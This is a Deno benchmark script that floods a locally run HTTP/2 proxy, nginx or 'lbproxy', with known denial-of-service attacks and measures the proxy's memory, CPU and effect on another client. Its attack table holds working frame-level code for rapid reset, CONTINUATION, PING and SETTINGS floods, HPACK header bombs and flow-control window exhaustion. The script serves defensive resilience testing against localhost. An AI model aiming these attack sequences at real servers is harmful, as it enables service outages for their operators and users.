/**
 * Cost of attacks by HTTP/2 clients, compared with nginx: memory, CPU, and the latency of another client.
 *
 * `deno run -A --unsafely-ignore-certificate-errors bench/http2_attacks.ts [--seconds 3] [--only WORDS] [--proxies nginx,lbproxy]`;
 * needs openssl and nginx.
 */

import { parseArgs } from "@std/cli/parse-args";
import { FLAG, FRAME, SETTING } from "../lib/http2/frame_type.ts";
import { freePort } from "./proxy/free_port.ts";
import type { PeerCommand } from "./proxy/peer.ts";
import { usageOf } from "./proxy/process_tree.ts";
import { type RunningProgram, startProgram } from "./proxy/running_program.ts";

type Bytes = Uint8Array<ArrayBuffer>;

const MIB = 1024 * 1024;
const WARM_MS = 3000;
/** Pause after an attack, in milliseconds, so that it does not affect the next one. */
const REST_MS = 1500;

function say(line: string): void {
  Deno.stdout.writeSync(new TextEncoder().encode(line + "\n"));
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

// --- frames -----------------------------------------------------------------------------------------------------------

function frame(type: number, flags: number, stream: number, payload: ArrayLike<number> = []): Bytes {
  const bytes = new Uint8Array(9 + payload.length);
  const head = new DataView(bytes.buffer);
  head.setUint32(0, payload.length << 8 | type);
  head.setUint8(4, flags);
  head.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}

function joined(...parts: ArrayLike<number>[]): Bytes {
  const bytes = new Uint8Array(parts.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const part of parts) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}

function many(count: number, make: (index: number) => Bytes): Bytes {
  return joined(...Array.from({ length: count }, (_, index) => make(index)));
}

function literal(name: string, value: string): number[] {
  const bytes = (text: string) => [text.length, ...new TextEncoder().encode(text)];
  return [0, ...bytes(name), ...bytes(value)];
}

function uint32(value: number): number[] {
  return [value >>> 24, value >>> 16 & 255, value >>> 8 & 255, value & 255];
}

const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEAD_END = FLAG.END_HEADERS | FLAG.END_STREAM;
const CANCEL = uint32(8);
/** `:scheme: https` by the static table (RFC 7541 appendix A). */
const HTTPS = 0x87;
const GET = [0x82, HTTPS, ...literal(":path", "/12"), ...literal(":authority", "localhost")];
const POST = [0x83, ...GET.slice(1)];
const GET_MIB = [0x82, HTTPS, ...literal(":path", "/1048576"), ...literal(":authority", "localhost")];
/** The length of 4,000 bytes in front of them, as an integer with a prefix of 7 bits. */
const LENGTH_4000 = [0x7f, 0xa1, 0x1e];
/** The newest entry of the dynamic table, 16,000 times. */
const REFERENCES = new Uint8Array(16_000).fill(0xbe);

function indexed(name: string): number[] {
  return [
    0x40,
    name.length,
    ...new TextEncoder().encode(name),
    ...LENGTH_4000,
    ...new Uint8Array(4000).fill(97),
  ];
}

function hello(settings: ArrayLike<number> = [], ...more: Bytes[]): Bytes {
  return joined(PREFACE, frame(FRAME.SETTINGS, 0, 0, settings), ...more);
}

function initialWindow(bytes: number): number[] {
  return [0, SETTING.INITIAL_WINDOW_SIZE, ...uint32(bytes)];
}

// --- attacks ----------------------------------------------------------------------------------------------------------

interface Attack {
  readonly name: string;
  /** Number of connections at a time; a connection that the proxy closes is replaced. */
  readonly connections: number;
  readonly hello: Bytes;
  /** Bytes that are written repeatedly. */
  next(index: number): Bytes;
  /** Whether they are written only once. */
  readonly once?: boolean;
  /** Whether the client does not read. */
  readonly deaf?: boolean;
}

const odd = (index: number): number => 2 * index + 1;

const ATTACKS: readonly Attack[] = [
  {
    name: "rapid reset (CVE-2023-44487)",
    connections: 4,
    hello: hello(),
    next: (index) =>
      many(100, (k) => {
        const id = odd(index * 100 + k);
        return joined(frame(FRAME.HEADERS, HEAD_END, id, GET), frame(FRAME.RST_STREAM, 0, id, CANCEL));
      }),
  },
  {
    name: "MadeYouReset (CVE-2025-8671)",
    connections: 4,
    hello: hello(),
    next: (index) =>
      many(100, (k) => {
        const id = odd(index * 100 + k);
        return joined(frame(FRAME.HEADERS, HEAD_END, id, GET), frame(FRAME.WINDOW_UPDATE, 0, id, uint32(0)));
      }),
  },
  {
    name: "CONTINUATION without end (CVE-2024-27316)",
    connections: 4,
    hello: hello([], frame(FRAME.HEADERS, 0, 1, GET)),
    next: () => frame(FRAME.CONTINUATION, 0, 1, new Uint8Array(16_000).fill(0x82)),
  },
  {
    name: "PING, nothing read (CVE-2019-9512)",
    connections: 4,
    hello: hello(),
    next: () => many(500, () => frame(FRAME.PING, 0, 0, new Uint8Array(8))),
    deaf: true,
  },
  {
    name: "SETTINGS (CVE-2019-9515)",
    connections: 4,
    hello: hello(),
    next: () => many(500, () => frame(FRAME.SETTINGS, 0, 0, initialWindow(65_535))),
  },
  {
    name: "empty DATA (CVE-2019-9518)",
    connections: 4,
    hello: hello([], frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, POST)),
    next: () => many(500, () => frame(FRAME.DATA, 0, 1)),
  },
  {
    name: "HPACK bombs: heads of 64 MB each, decoded",
    connections: 10,
    hello: hello([], frame(FRAME.HEADERS, HEAD_END, 1, [...GET, ...indexed("x")])),
    next: (index) => frame(FRAME.HEADERS, HEAD_END, odd(index + 1), joined(GET, REFERENCES)),
  },
  {
    name: "the same of cookies, content awaited (CVE-2026-49975)",
    connections: 10,
    hello: hello([], frame(FRAME.HEADERS, HEAD_END, 1, [...GET, ...indexed("cookie")])),
    next: (index) => frame(FRAME.HEADERS, FLAG.END_HEADERS, odd(index + 1), joined(POST, REFERENCES)),
  },
  {
    name: "window 0: 2,000 responses of 1 MiB",
    connections: 20,
    hello: hello(initialWindow(0)),
    next: () => many(100, (k) => frame(FRAME.HEADERS, HEAD_END, odd(k), GET_MIB)),
    once: true,
  },
  {
    name: "window 1 GiB, nothing read: 1,000 responses of 1 MiB",
    connections: 10,
    hello: hello(initialWindow(1 << 30), frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(0x3f00_0000))),
    next: () => many(100, (k) => frame(FRAME.HEADERS, HEAD_END, odd(k), GET_MIB)),
    once: true,
    deaf: true,
  },
  {
    name: "300 connections with half a head",
    connections: 300,
    hello: hello(),
    next: () => frame(FRAME.HEADERS, 0, 1, GET),
    once: true,
  },
];

/** Attacks for a time, and returns how many connections the proxy has closed. */
async function attack(
  port: number,
  { connections, hello, next, once, deaf }: Attack,
  ms: number,
): Promise<string> {
  const over = pause(ms).then(() => running = false);
  let running = true;
  let opened = 0;
  let ended = 0;
  const open = new Set<Deno.Conn>();
  const one = async (): Promise<void> => {
    const connection = await Deno.connectTls({ hostname: "127.0.0.1", port, alpnProtocols: ["h2"] });
    opened++;
    open.add(connection);
    const end = deaf ? over : untilEnd(connection);
    let alive = true;
    end.then(() => alive = false);
    const write = async (): Promise<void> => {
      await writeAll(connection, hello);
      for (let index = 0; alive && running; index++) {
        await writeAll(connection, next(index));
        if (once) await end;
      }
    };
    await Promise.race([write().catch(() => {}), over]);
    if (running) {
      ended++;
      open.delete(connection);
      connection.close();
    }
  };
  const lane = async (): Promise<void> => {
    while (running) await Promise.race([one().catch(() => pause(20)), over]);
  };
  await Promise.all(Array.from({ length: connections }, lane));
  for (const connection of open) connection.close();
  return `${ended} of ${opened}`;
}

async function untilEnd(connection: Deno.Conn): Promise<void> {
  const buffer = new Uint8Array(64 * 1024);
  try {
    while (await connection.read(buffer) !== null);
  } catch {
    // The connection was reset, or closed here.
  }
}

async function writeAll(connection: Deno.Conn, bytes: Bytes): Promise<void> {
  for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
}

// --- the other client ---------------------------------------------------------------------------------------------------

/** Sends 100 requests per second in a separate process, and reports the results. */
async function goodClient(port: number, ms: number): Promise<void> {
  using client = Deno.createHttpClient({ http1: false, http2: true });
  const waits: number[] = [];
  let failed = 0;
  for (const until = performance.now() + ms; performance.now() < until; await pause(10)) {
    const startAt = performance.now();
    try {
      const response = await fetch(`https://localhost:${port}/12`, {
        client,
        signal: AbortSignal.timeout(5000),
      });
      if ((await response.text()).length !== 12) throw new Error("another response");
      waits.push(performance.now() - startAt);
    } catch {
      failed++;
    }
  }
  waits.sort((a, b) => a - b);
  const at = (share: number) => waits[Math.floor((waits.length - 1) * share)]?.toFixed(1) ?? "none";
  say(`${at(0.5)} ms | ${at(0.99)} ms | ${failed} of ${waits.length + failed}`);
}

async function beside(port: number, ms: number): Promise<string> {
  const { stdout } = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "--no-check", "--unsafely-ignore-certificate-errors", import.meta.filename!]
      .concat(["--client", String(port), "--seconds", String(ms / 1000)]),
    stderr: "null",
  }).output();
  return new TextDecoder().decode(stdout).trim();
}

// --- the proxies --------------------------------------------------------------------------------------------------------

async function makeFiles(folder: string): Promise<void> {
  for (const size of [12, 1024 * 1024]) {
    await Deno.writeTextFile(`${folder}/${size}`, "a".repeat(size));
  }
  const key = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-keyout", `${folder}/key.pem`];
  const names = ["-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"];
  const { success } = await new Deno.Command("openssl", {
    args: ["req", "-x509", "-nodes", "-days", "9", "-out", `${folder}/cert.pem`, ...key, ...names],
    stderr: "null",
  }).output();
  if (!success) throw new Error("openssl has made no certificate");
}

async function nginx(folder: string, name: string, http: string): Promise<PeerCommand> {
  const file = `${folder}/${name}.conf`;
  await Deno.writeTextFile(
    file,
    `daemon off; worker_processes 1; pid ${folder}/${name}.pid; error_log /dev/null;
     events { worker_connections 8192; } http { access_log off; keepalive_requests 1000000; ${http} }`,
  );
  return { command: "nginx", args: ["-p", folder, "-c", file] };
}

async function commandOf(name: string, folder: string, port: number, server: number): Promise<PeerCommand> {
  const cert = `${folder}/cert.pem`;
  const key = `${folder}/key.pem`;
  if (name === "nginx") {
    return await nginx(
      folder,
      "proxy",
      `upstream servers { server 127.0.0.1:${server}; keepalive 64; }
       server { listen 127.0.0.1:${port} ssl http2; ssl_certificate ${cert}; ssl_certificate_key ${key};
         location / { proxy_pass http://servers; proxy_http_version 1.1; proxy_set_header Connection ""; } }`,
    );
  }
  await Deno.writeTextFile(
    `${folder}/proxy.config.js`,
    `export const listen = ${JSON.stringify({ hostname: "127.0.0.1", port, tls: { cert, key } })};
     export const upstreams = ["127.0.0.1:${server}"];
     export const accessLog = false;`,
  );
  const main = new URL("../mod.ts", import.meta.url).pathname;
  return {
    command: Deno.execPath(),
    args: ["run", "-A", main, `${folder}/proxy.config.js`],
  };
}

async function measure(program: RunningProgram, each: Attack, ms: number): Promise<void> {
  const before = usageOf(program.pid);
  let peak = before.rssBytes;
  const timer = setInterval(() => peak = Math.max(peak, usageOf(program.pid).rssBytes), 100);
  const startAt = performance.now();
  const other = beside(program.port, ms);
  const ended = await attack(program.port, each, ms);
  const took = performance.now() - startAt;
  clearInterval(timer);
  const share = (usageOf(program.pid).cpuSeconds - before.cpuSeconds) / took * 1e5;
  const mib = (bytes: number) => (bytes / MIB).toFixed(0);
  say(
    `| ${each.name} | ${mib(before.rssBytes)} | +${mib(peak - before.rssBytes)} | ${
      share.toFixed(0)
    } % | ${ended} | ${await other} |`,
  );
  await pause(REST_MS);
}

const { seconds, only, proxies, client } = parseArgs(Deno.args, {
  string: ["only", "proxies", "client"],
  default: { seconds: 3, only: "", proxies: "nginx,lbproxy" },
});
const ms = Number(seconds) * 1000;
if (client !== undefined) {
  await goodClient(Number(client), ms);
  Deno.exit();
}
for (const name of proxies.split(",")) {
  const folder = await Deno.makeTempDir();
  try {
    await Deno.chmod(folder, 0o755);
    await makeFiles(folder);
    const [server, port] = [freePort(), freePort()];
    const files = await nginx(folder, "server", `server { listen 127.0.0.1:${server}; root ${folder}; }`);
    await using _server = await startProgram(files, server);
    await using program = await startProgram(await commandOf(name, folder, port, server), port, "null");
    say(
      `\n${name}\n\n| attack | MiB before | most | CPU | connections ended | another client: median | 99 % | failed |`,
    );
    say(`| --- | --- | --- | --- | --- | --- | --- | --- |`);
    // Warms up the JIT compiler.
    await beside(port, WARM_MS);
    for (const each of ATTACKS) {
      if (each.name.includes(only)) await measure(program, each, ms);
    }
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
}
